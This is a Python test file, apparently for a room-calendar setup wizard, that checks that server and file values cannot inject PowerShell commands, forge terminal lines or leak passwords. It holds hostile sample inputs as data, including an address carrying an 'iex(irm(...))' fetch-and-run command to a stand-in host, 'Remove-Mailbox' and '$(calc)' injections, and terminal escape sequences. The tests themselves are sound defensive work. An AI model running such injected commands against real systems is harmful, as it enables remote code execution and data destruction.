"""Trust, round two: what servers and files say never becomes a command, a request or a line.

* PowerShell: every value in a remedy or the hand-off's script is one literal, and an
  address a server sends that is not an address is named, never embedded (read the way
  PowerShell reads quotes: ``powershell_tokens.py`` says why not with ``pwsh``).
* Addresses are validated strictly, once (the form, the CLI option, the answers file).
* An answers file names only a variable meant for roomcal, and no password goes over plain
  http except to this machine (the sandbox).
* A URL's user name and password are refused, and kept nowhere.
* Text from servers reaches the terminal with its control characters and line breaks shown.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from powershell_tokens import executable, literals, tokens

from wizard.cli import main

HOSTILE = ("rooms@x.com;iex(irm('http://evil'))", "x\u2019;calc;\u2019@y.com")
MARKERS = ("iex", "irm", "evil", "calc")


def _blocks(text: str) -> str:
    """Every PowerShell code block of a hand-off (the script, or the console steps' lines)."""
    found = re.findall(r"^( *)(`{3,})powershell\n(.*?)^\1\2$", text, re.M | re.S)
    assert found, text
    return "\n".join(re.sub(r"^ {0,3}", "", body, flags=re.M) for _indent, _fence, body in found)


def _assert_inert(script: str) -> None:
    """No value of a hostile server or person is code: nothing of it outside a literal,
    and no statement separator or call operator anywhere outside one."""
    code = executable(script)
    for token in code:
        assert not any(m in token.text.lower() for m in MARKERS), (token, script)
        assert token.kind != "expandable" or "$" not in token.text, (token, script)
    assert not [t for t in code if t.kind == "operator" and t.text in ";&"], script


# -- the quoting function, character by character -------------------------------------------

@pytest.mark.parametrize("value", [
    *HOSTILE, "a'b@x.com", "\u2018\u2019\u201a\u201b'", "''", "'", "x'; Remove-Mailbox ceo; '",
    "$(calc)", "`n\"$x\"", "a\nRemove-Mailbox ceo", "bell\x07esc\x1b[31m", "\u2028next",
])
def test_a_literal_reads_back_as_the_value_and_nothing_else(value: str) -> None:
    from wizard.core.powershell import literal
    from wizard.core.text import one_line

    line = f"Set-CASMailbox -Identity {literal(value)} -EwsEnabled $true"
    found = tokens(line)
    assert [t.kind for t in found] == ["word", "word", "literal", "word", "word"], found
    assert found[2].text == one_line(value)  # control characters shown, never raw
    assert "\n" not in line and "\x1b" not in line


# -- addresses: one strict validator -----------------------------------------------------------

@pytest.mark.parametrize("value", [
    *HOSTILE, "rooms@x.com\nRemove-Mailbox", "a b@x.com", "a@b", "a@-x.com", "a@x..com",
    ".a@x.com", "a..b@x.com", "\"a;b\"@x.com", "a@x.com ", "a@[127.0.0.1]", "r\u00e4ume@x.com",
])
def test_refused_addresses(value: str) -> None:
    from wizard.core.addresses import is_address

    assert not is_address(value)


@pytest.mark.parametrize("value", ["a'b@x.com", "o'brien.smith+rooms@mail.contoso.co.uk",
                                   "svc-cronofy@demo.example.com", "A_1@xn--mller-kva.de"])
def test_accepted_addresses(value: str) -> None:
    from wizard.core.addresses import is_address

    assert is_address(value)


@pytest.mark.parametrize("option", ["--room-list", "--username"])
@pytest.mark.parametrize("value", HOSTILE)
def test_the_cli_refuses_a_hostile_address_before_anything_runs(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], option: str, value: str) -> None:
    path = tmp_path / "handoff.md"
    assert main(["--lang", "en", "check", "exchange", "--scenario", "healthy", option, value,
                 "--handoff", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and option in err and "Traceback" not in err, err
    assert not path.exists()


def test_an_apostrophe_in_addresses_stays_a_literal_in_every_command(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The real CLI, the sandbox's Exchange: a'b is a valid address, and quoted everywhere."""
    account, room_list = "a'b@demo.example.com", "o'brien-rooms@demo.example.com"
    scenario = tmp_path / "apostrophes.toml"
    scenario.write_text(f'[exchange]\nservice_account = "{account}"\nroom_lists = []\n',
                        encoding="utf-8")
    path = tmp_path / "handoff.md"
    assert main(["--lang", "en", "check", "exchange", "--scenario", str(scenario),
                 "--username", account, "--room-list", room_list, "--handoff", str(path)]) == 1
    out = capsys.readouterr().out
    script = _blocks(path.read_text(encoding="utf-8"))
    assert room_list in literals(script), script
    _assert_inert(script)
    assert "-PrimarySmtpAddress 'o''brien-rooms@demo.example.com'" in script
    # The remedy the CLI prints is the same literal.
    assert "-PrimarySmtpAddress 'o''brien-rooms@demo.example.com'" in out, out

    scenario.write_text(f'[exchange]\nservice_account = "{account}"\n'
                        "impersonation_denied = true\n", encoding="utf-8")
    assert main(["--lang", "en", "check", "exchange", "--scenario", str(scenario),
                 "--username", account, "--handoff", str(path), "--force"]) == 1
    script = _blocks(path.read_text(encoding="utf-8"))
    assert "-User 'a''b@demo.example.com'" in script, script
    assert account in literals(script)
    _assert_inert(script)


# -- Microsoft 365: room addresses from Graph -------------------------------------------------

def _m365_scenario(tmp_path: Path, room_lists: str) -> Path:
    rooms = [("Raum Alster", "alster@demo.example.com"), ("Evil one", HOSTILE[0]),
             ("Evil two", HOSTILE[1]), ("O'Hara", "o'hara@demo.example.com")]
    text = "".join(f"[[rooms.list]]\nname = {_toml(name)}\nemail = {_toml(email)}\n"
                   for name, email in rooms)
    path = tmp_path / "m365-hostile.toml"
    path.write_text(text + f"[microsoft365]\nroom_lists = {room_lists}\n", encoding="utf-8")
    return path


def _toml(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


@pytest.mark.parametrize("room_lists", [
    '[{ email = "rooms@demo.example.com", rooms = ["alster@demo.example.com"] }]', "[]"])
def test_graph_room_addresses_are_literals_or_named_as_invalid(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], room_lists: str) -> None:
    path = tmp_path / "handoff.md"
    main(["--lang", "en", "check", "microsoft365", "--scenario",
          str(_m365_scenario(tmp_path, room_lists)), "--handoff", str(path)])
    out = capsys.readouterr().out
    text = path.read_text(encoding="utf-8")
    script = _blocks(text)
    _assert_inert(script)
    assert "o'hara@demo.example.com" in literals(script), script
    assert not [v for v in literals(script) if any(m in v for m in MARKERS)], script
    assert "not a valid address" in text and "Evil one" in text and "Evil two" in text, text
    # The CLI's remedy commands hold nothing of them either.
    commands = "\n".join(line.strip() for line in out.splitlines()
                         if re.match(r"\s+(Add|New|Connect|Get)-", line))
    _assert_inert(commands)


# -- the terminal: server text with its control characters shown ------------------------------

def test_room_names_cannot_forge_lines_of_the_cli(tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    scenario = tmp_path / "forged.toml"
    scenario.write_text(
        '[[rooms.list]]\nname = "Evil\\n\\u2713 pass       All rooms fine\\u001b[2J"\n'
        'email = "evil@demo.example.com"\n[[rooms.list]]\nname = "Raum Elbe"\n'
        'email = "elbe@demo.example.com"\n[exchange]\nimpersonation_denied = true\n',
        encoding="utf-8")
    assert main(["--lang", "en", "check", "exchange", "--scenario", str(scenario)]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert not [line for line in out.splitlines() if "All rooms fine" in line
                and not line.lstrip().startswith("✗ Evil")], out
    assert "Evil⏎✓ pass" in out, out


def test_the_device_code_reaches_the_terminal_shown_not_obeyed(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A login server whose code and address carry a terminal's escape sequences."""
    scenario = tmp_path / "escapes.toml"
    scenario.write_text('[microsoft365]\ndevice_code_text = "\\u001b]0;owned\\u0007\\nForged"\n'
                        "decline = true\n", encoding="utf-8")
    assert main(["--lang", "en", "check", "microsoft365", "--scenario", str(scenario)]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err, err
    assert not [line for line in err.splitlines() if line.startswith("Forged")], err
    assert "␛]0;owned␇⏎Forged" in err, err


# -- answers files: which variables, which addresses ------------------------------------------

def _answers(tmp_path: Path, body: str) -> Path:
    path = tmp_path / "answers.toml"
    path.write_text('provider = "exchange"\n' + body, encoding="utf-8")
    return path


@pytest.mark.parametrize("variable", ["AWS_SECRET_ACCESS_KEY", "HOME",
                                      "ROOMCAL_RELAY_TOKEN"])
def test_answers_may_not_send_any_variable_as_the_password(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        variable: str) -> None:
    monkeypatch.setenv(variable, "s3cret-of-someone-else")
    path = _answers(tmp_path, f'[secrets]\npassword = "{variable}"\n')
    assert main(["--lang", "en", "check", "exchange", "--scenario", "healthy", "--answers",
                 str(path)]) == 2
    err = capsys.readouterr().err
    assert "ROOMCAL_" in err and "line 3" in err and err.count("\n") == 1, err
    assert "s3cret-of-someone-else" not in err


def test_answers_may_name_a_variable_meant_for_roomcal(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from wizard.app.answers import load

    monkeypatch.setenv("ROOMCAL_PASSWORD_LAB", "lab-password")
    answers = load(_answers(tmp_path, '[secrets]\npassword = "ROOMCAL_PASSWORD_LAB"\n'))
    assert answers.secrets == {"password": "lab-password"}


@pytest.mark.parametrize("url", ["http://mail.evil.example/EWS/Exchange.asmx",
                                 "http://10.0.0.5/EWS/Exchange.asmx"])
def test_no_password_over_plain_http(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                     url: str) -> None:
    path = _answers(tmp_path, f'[form]\news_url = "{url}"\n')
    assert main(["--lang", "en", "check", "exchange", "--scenario", "healthy", "--answers",
                 str(path)]) == 2
    err = capsys.readouterr().err
    assert "form.ews_url" in err and "https" in err and err.count("\n") == 1, err
    assert main(["--lang", "en", "check", "exchange", "--scenario", "healthy", "--ews-url",
                 url]) == 2
    err = capsys.readouterr().err
    assert "--ews-url" in err and "https" in err and err.count("\n") == 1, err


def test_plain_http_to_this_machine_is_the_sandbox_and_allowed() -> None:
    from wizard.providers.exchange.checks import PLUGIN

    field = next(f for f in PLUGIN.fields if f.key == "ews_url")
    assert field.validate is not None
    for url in ("http://127.0.0.1:8443/EWS/Exchange.asmx", "http://[::1]/EWS/Exchange.asmx",
                "http://localhost/EWS/Exchange.asmx", "https://mail.example.com/EWS"):
        assert field.validate(url) is None, url


def test_a_discovered_plain_http_address_gets_no_password(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Autodiscover (a server) answers http://…: the check stops before a request is sent."""
    scenario = tmp_path / "discovered.toml"
    scenario.write_text('[exchange]\ndiscovered_ews_url = "http://192.0.2.1/EWS/Exchange.asmx"\n',
                        encoding="utf-8")
    assert main(["--lang", "en", "check", "exchange", "--scenario", str(scenario),
                 "--ews-url", "svc-cronofy@demo.example.com", "--timeout", "3", "--json"]) == 1
    out = capsys.readouterr().out
    assert '"code": "net.insecure_url"' in out, out
    assert "192.0.2.1" in out


def test_an_http_autodiscover_setting_is_refused_unless_loopback() -> None:
    from wizard.core.errors import SettingsError
    from wizard.core.settings import Settings

    with pytest.raises(SettingsError):
        Settings.from_env({"ROOMCAL_AUTODISCOVER_URL": "http://mail.example.local/autodiscover"})
    assert Settings.from_env({"ROOMCAL_AUTODISCOVER_URL": "http://127.0.0.1:9/ad"}
                             ).autodiscover_url == "http://127.0.0.1:9/ad"


# -- user names and passwords in the EWS URL --------------------------------------------------

URL_WITH_PASSWORD = "https://svc:Hunter2-secret@mail.example.com/EWS/Exchange.asmx"


def test_userinfo_in_the_ews_url_is_refused_and_not_repeated(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = tmp_path / "report.json"
    assert main(["--lang", "en", "check", "exchange", "--scenario", "healthy", "--ews-url",
                 URL_WITH_PASSWORD, "--report", str(report)]) == 2
    err = capsys.readouterr().err
    assert "--ews-url" in err and err.count("\n") == 1 and "Hunter2" not in err, err
    assert not report.exists()
    path = _answers(tmp_path, f'[form]\news_url = "{URL_WITH_PASSWORD}"\n')
    assert main(["--lang", "en", "check", "exchange", "--answers", str(path)]) == 2
    err = capsys.readouterr().err
    assert "form.ews_url" in err and "Hunter2" not in err, err


def test_a_url_typed_with_a_password_is_stored_without_it(tmp_path: Path) -> None:
    """The form keeps what is typed; the profile (and so reports, hand-offs) never the
    password in the URL."""
    from wizard.core.session import Session
    from wizard.core.store import ProfileStore

    store = ProfileStore(tmp_path / "profiles")
    session = Session("p", store=store)
    session.choose_provider("exchange")
    session.set_value("ews_url", URL_WITH_PASSWORD)
    assert session.stored_values()["ews_url"] == "https://mail.example.com/EWS/Exchange.asmx"
    assert not [p for p in (tmp_path / "profiles").rglob("*")
                if p.is_file() and "Hunter2" in p.read_text(encoding="utf-8")]


async def test_the_tui_check_list_shows_a_room_name_on_one_line() -> None:
    from textual.app import App, ComposeResult
    from textual.widgets import Static

    from wizard.core.model import CheckResult, Msg, Status, SubResult
    from wizard.providers.exchange.checks import PLUGIN
    from wizard.ui.widgets.check_item import CheckItem

    spec = next(s for s in PLUGIN.checks if s.id == "impersonation")
    result = CheckResult("impersonation", Status.FAIL, Msg(
        "{count} rooms are in no room list: {rooms}", count=1, rooms="Evil\nForged line"),
        items=(SubResult("Evil\n✓ Raum: fine\x1b[2J", Status.FAIL, "denied", "evil@x.com"),))

    class Host(App[None]):
        def compose(self) -> ComposeResult:
            yield CheckItem(spec, result, confirmed=False)

    app = Host()
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        shown = str(app.query_one(".check-items", Static).render())
        detail = str(app.query_one(".check-detail", Static).render())
    assert "\n" not in shown and "\x1b" not in shown and "Evil⏎✓ Raum" in shown, shown
    assert "Evil⏎Forged line" in detail, detail


def test_one_line_shows_every_line_break_and_control() -> None:
    from wizard.core.text import one_line

    assert one_line("a\nb\r\nc\u2028d\u0085e\x1b[1m\tf") == "a⏎b⏎c⏎d⏎e␛[1m f"


def test_progress_line_shows_server_text_on_one_line() -> None:
    from wizard.commands.progress import ProgressLine
    from wizard.core.model import CheckResult, Msg, Status

    stream = io.StringIO()
    line = ProgressLine(stream, {"rooms": "Rooms"}, json_output=False)
    line.update(CheckResult("rooms", Status.CHECKING, Msg("{name}", name="a\nb\x1b[2J")))
    assert stream.getvalue() == "  … Rooms: a⏎b␛[2J\n"
